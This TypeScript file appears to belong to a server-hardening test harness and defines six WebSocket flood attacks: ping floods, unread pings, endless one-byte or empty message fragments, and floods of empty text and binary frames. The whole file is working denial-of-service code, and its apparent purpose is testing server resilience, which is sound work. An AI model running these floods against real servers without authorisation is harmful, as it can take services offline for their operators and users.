import type { Attack } from "../attack.ts";
import { frame, OPCODE } from "../attacker/frames.ts";

const EMPTY = new Uint8Array();

/** An attack that sends the same bytes over and over on one WebSocket. */
function flood(number: string, title: string, bytes: () => Uint8Array, first?: Uint8Array): Attack {
  return {
    id: `ATK-F${number}`,
    title,
    over: "sockets",
    needs: ["websocket"],
    async run(attacker) {
      const socket = await attacker.openWebSocket();
      if (socket === undefined) return undefined;
      if (first !== undefined) socket.write(first);
      const block = bytes();
      await attacker.pour(socket, () => block);
      return undefined;
    },
  };
}

function many(count: number, bytes: Uint8Array): Uint8Array {
  return Buffer.concat(Array(count).fill(bytes));
}

/** Attacks by more frames than a server should have to process. */
export const FLOODS: readonly Attack[] = [
  flood("10", "Pings flood a WebSocket, and their answers are read.", () =>
    many(4_000, frame(OPCODE.ping, new Uint8Array(4))),
  ),
  {
    id: "ATK-F11",
    title: "Pings of 125 bytes flood a WebSocket, and their answers aren't read.",
    over: "sockets",
    needs: ["websocket"],
    async run(attacker) {
      const socket = await attacker.openWebSocket();
      if (socket === undefined) return undefined;
      socket.pause();
      const block = many(500, frame(OPCODE.ping, new Uint8Array(125)));
      await attacker.pour(socket, () => block);
      return undefined;
    },
  },
  flood(
    "12",
    "A message comes in fragments of one byte without end.",
    () => many(4_000, frame(OPCODE.continuation, Buffer.from(" "), { fin: false })),
    frame(OPCODE.text, Buffer.from("["), { fin: false }),
  ),
  flood(
    "13",
    "A message comes in empty fragments without end.",
    () => many(4_000, frame(OPCODE.continuation, EMPTY, { fin: false })),
    frame(OPCODE.text, Buffer.from("["), { fin: false }),
  ),
  flood("14", "Empty texts flood a WebSocket.", () => many(4_000, frame(OPCODE.text, EMPTY))),
  flood("15", "Binary frames of no bytes flood a WebSocket.", () =>
    many(4_000, frame(OPCODE.binary, EMPTY)),
  ),
];
